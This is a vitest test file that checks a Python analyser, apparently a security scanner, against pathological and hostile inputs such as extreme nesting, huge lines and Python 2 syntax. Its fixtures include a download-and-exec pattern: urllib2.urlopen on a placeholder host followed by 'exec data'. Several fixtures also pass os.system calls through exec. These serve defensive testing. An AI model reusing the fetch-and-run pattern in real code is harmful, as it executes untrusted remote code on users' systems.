import { beforeAll, describe, expect, it } from 'vitest';
import type { FileFacts } from '../../../src/model/index.js';
import type { PythonAnalyzer } from '../../../src/detectors/python/parser.js';
import { pythonAnalyzer } from '../../support/python-analyzer.js';

let analyzer: PythonAnalyzer;
beforeAll(async () => {
  analyzer = await pythonAnalyzer();
});

const analyze = (source: string, maxMillis = 10_000): FileFacts => analyzer.analyze('evil.py', source, { maxMillis });
const callees = (f: FileFacts): string[] => f.calls.map((c) => c.callee);

/** After any hostile input the analyser must still work on ordinary code. */
function stillWorks(): void {
  expect(callees(analyze("import os\nos.system('ok')\n"))).toEqual(['os.system']);
}

describe('python analyser: hostile input', () => {
  it('survives 100,000-deep nesting of parentheses, calls, lists, operators and attributes', () => {
    const n = 100_000;
    const cases = [
      `x = ${'('.repeat(n)}1${')'.repeat(n)}\nimport os\nos.system('after')\n`,
      `import os\nos.system(${'f('.repeat(n)}${')'.repeat(n + 1)}\n`,
      `x = ${'['.repeat(n)}${']'.repeat(n)}\n`,
      `x = ${'"a" + '.repeat(n)}"b"\nimport os\nos.system(x)\n`,
      `x = a${'.b'.repeat(n)}\n`,
      `x = ${'['.repeat(n)}\nimport os\nos.system('after')\n`,
    ];
    for (const source of cases) {
      const f = analyze(source, 1_500);
      expect(f.language).toBe('python');
      stillWorks();
    }
    expect(callees(analyze(cases[0] as string))).toEqual(['os.system']);
    expect(analyze(cases[1] as string).calls.length).toBeGreaterThan(1000);
  });

  it('refuses files indented deeper than Python allows, without breaking the parser', () => {
    const deep = `${Array.from({ length: 1000 }, (_, i) => `${' '.repeat(i)}if x:\n`).join('')}${' '.repeat(1000)}import os; os.system('deep')\n`;
    const f = analyze(deep);
    expect(f.partial).toBe(true);
    expect(f.parseError).toMatch(/indentation levels/);
    stillWorks();
    const fine = `${Array.from({ length: 50 }, (_, i) => `${' '.repeat(i)}if x:\n`).join('')}${' '.repeat(50)}import os; os.system('deep')\n`;
    expect(callees(analyze(fine))).toEqual(['os.system']);
  });

  it('stops at the safety deadline on a 20 MB line and reports it', () => {
    const t = performance.now();
    const f = analyzer.analyze('big.py', 'x = 1;'.repeat(3_500_000), { maxMillis: 300 });
    expect(performance.now() - t).toBeLessThan(5_000);
    expect(f).toMatchObject({ partial: true, parseError: 'analysis budget exceeded' });
    expect(f.metrics.maxLineLength).toBe(21_000_000);
    stillWorks();
  });

  it('reports the budget when a large ordinary file needs more steps than allowed', () => {
    const f = analyzer.analyze('many.py', `import os\n${"os.system('x')\n".repeat(50_000)}`, { maxSteps: 1000 });
    expect(f).toMatchObject({ partial: true, parseError: 'analysis budget exceeded' });
  });

  it('reads past NUL bytes, byte order marks and replacement characters', () => {
    expect(callees(analyze("import os\0\nos.system('x\0y')\n"))).toEqual(['os.system']);
    const bom = analyze("\uFEFFimport os\nos.system('x')\n");
    expect(bom.calls[0]).toMatchObject({ callee: 'os.system', line: 2 });
    const bad = analyze("import os\nos.system('\uFFFD\uFFFD')\nname = '\uFFFDabc'\n");
    expect(bad.calls[0]?.args[0]?.value).toBe('\uFFFD\uFFFD');
    expect(bad.strings.map((s) => s.value)).toContain('\uFFFDabc');
  });

  it('does not spend quadratic time on runs of comment lines', () => {
    const t = performance.now();
    const f = analyze(`import os\n${'# padding\n'.repeat(30_000)}os.system('after the comments')\n`);
    const g = analyze(`import os\n${'# padding\n\n'.repeat(15_000)}os.system('after the comments')\n`);
    expect(performance.now() - t).toBeLessThan(5_000);
    expect(f.calls[0]).toMatchObject({ callee: 'os.system', line: 30_002 });
    expect(g.calls[0]).toMatchObject({ callee: 'os.system', line: 30_002 });
    const s = analyze(`x = """\n${'# not a comment\n'.repeat(50)}"""\n`).strings[0]?.value;
    expect(s).toBe(`\n${'# not a comment\n'.repeat(50)}`);
  });

  it('bounds constant folding of doubling strings', () => {
    const f = analyze(`x = 'ab'\n${'x = x + x\n'.repeat(60)}exec(x)\n`);
    expect(f.calls[0]?.callee).toBe('builtins.exec');
    expect(f.calls[0]?.args[0]?.value).toBeUndefined();
  });

  it('produces facts for Python 2 files', () => {
    const f = analyze(
      [
        'import os, urllib2',
        'print "installing"',
        'print >>sys.stderr, "warn"',
        'try:',
        '    os.chmod("x", 0755)',
        'except OSError, e:',
        '    print `e`',
        "data = urllib2.urlopen(ur'http://example.invalid/p').read()",
        "exec 'import os; os.system(\"id\")'",
        'exec data in globals()',
        "os.system('after')",
      ].join('\n'),
    );
    expect(callees(f)).toEqual(expect.arrayContaining(['os.chmod', 'urllib2.urlopen', 'builtins.exec', 'os.system']));
    expect(f.calls.find((c) => c.callee === 'urllib2.urlopen')?.args[0]?.value).toBe('http://example.invalid/p');
    expect(f.decoded[0]?.facts?.calls.map((c) => c.callee)).toEqual(['os.system']);
    expect(f.calls.find((c) => c.line === 11)?.callee).toBe('os.system');
  });
});
